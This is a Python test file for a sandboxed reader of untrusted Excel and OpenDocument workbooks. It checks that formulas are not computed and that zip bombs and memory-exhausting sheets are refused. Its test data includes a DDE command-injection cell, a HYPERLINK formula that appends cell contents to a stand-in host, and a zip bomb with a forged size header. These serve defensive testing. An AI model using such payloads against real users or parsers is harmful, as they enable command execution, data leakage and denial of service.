"""Workbooks of strangers: read in a process of their own, that may end without ending ours."""

import io
import signal
import struct
import zipfile
from datetime import date

import pytest
import xlsxwriter

from obole.lib import open_documents, workbooks
from obole.lib.tables import Column, Kind, Table
from obole.lib.workbooks import NotAWorkbook, TooLarge

DAY = date(2026, 11, 23)


def xlsx(*rows: tuple[object, ...]) -> bytes:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content, {"default_date_format": "dd/mm/yyyy"}) as book:
        sheet = book.add_worksheet()
        for at, row in enumerate(rows):
            sheet.write_row(at, 0, row)
    return content.getvalue()


def packed(*parts: tuple[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts:
            archive.writestr(name, part)
    return content.getvalue()


def far_cell() -> bytes:
    """Return a workbook whose two cells are as far from each other as can be."""
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "a")
        sheet.write(1_048_575, 60, "b")
    return content.getvalue()


def read(content: bytes, most_rows: int = 100) -> list[str]:
    return workbooks.read(content, most_rows=most_rows).decode().splitlines()


def test_cells_are_written_as_somebody_would_type_them() -> None:
    rows = read(xlsx(("Nom", "Jour", "Repas"), ("Léa;B", DAY, 1), ("", True, 1.5), (), ("x", None, 0)))
    assert rows == ["Nom;Jour;Repas", '"Léa;B";2026-11-23;1', ";oui;1.5", ";;", "x;;0"]


def test_an_open_document_is_read_as_well() -> None:
    table = Table("Présences", [Column("Nom"), Column("Jour", Kind.DAY)], [["Léa", DAY]])
    assert read(b"".join(open_documents.write(table))) == ["Nom;Jour", "Léa;2026-11-23"]


def test_a_formula_is_what_it_showed_and_is_never_computed() -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Nom", "Repas"])
        sheet.write_formula(1, 0, '=HYPERLINK("http://x.example/"&A1)', None, "Léa")
        sheet.write_formula(1, 1, "=1+1", None, 7)
        sheet.write_string(2, 0, "=cmd|' /C calc'!A0")
    assert read(content.getvalue()) == ["Nom;Repas", "Léa;7", "=cmd|' /C calc'!A0;"]


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04",
        xlsx(("a", "b"))[:400],
        packed(("notes.txt", b"x")),
        packed(("xl/workbook.xml", b"<nothing/>")),
        packed(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")),
    ],
)
def test_what_is_no_workbook_is_refused(content: bytes) -> None:
    with pytest.raises(NotAWorkbook):
        read(content)


def test_what_unfolds_without_end_is_refused_before_it_is_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbooks, "MOST_UNPACKED", 1_000_000)
    monkeypatch.setattr(workbooks.subprocess, "run", None)
    bomb = packed(("xl/workbook.xml", b" " * 5_000_000))
    with pytest.raises(TooLarge):
        read(bomb)
    # One that says that it is small.
    declared = bomb.index(struct.pack("<I", 5_000_000))
    lying = bomb[:declared] + struct.pack("<I", 10) + bomb[declared + 4 :]
    at = lying.rindex(struct.pack("<I", 5_000_000))
    with pytest.raises(TooLarge):
        read(lying[:at] + struct.pack("<I", 10) + lying[at + 4 :])
    with pytest.raises(TooLarge):
        read(packed(*((f"{n}", b"") for n in range(workbooks.MOST_PARTS + 1))))


def test_a_sheet_that_wants_all_the_memory_ends_its_own_process(monkeypatch: pytest.MonkeyPatch) -> None:
    ended, run = [], workbooks.subprocess.run
    monkeypatch.setattr(
        workbooks.subprocess, "run", lambda *args, **given: ended.append(run(*args, **given)) or ended[0]
    )
    with pytest.raises(TooLarge):
        read(far_cell(), most_rows=2_000_000)
    assert ended[0].returncode == -signal.SIGABRT, "it was refused the memory, and not told to stop"


def test_a_text_that_stands_in_every_cell_is_not_written_without_end() -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet()
        for row in range(30):
            sheet.write_row(row, 0, ["x" * 32_000] * 60)
    assert len(content.getvalue()) < 100_000
    with pytest.raises(TooLarge):
        read(content.getvalue())


def test_too_many_rows_and_too_much_time_are_refused() -> None:
    rows = xlsx(*((n, "x") for n in range(30)))
    with pytest.raises(TooLarge):
        read(rows, most_rows=20)
    with pytest.raises(TooLarge):
        workbooks.read(rows, most_rows=100, seconds=0.001)
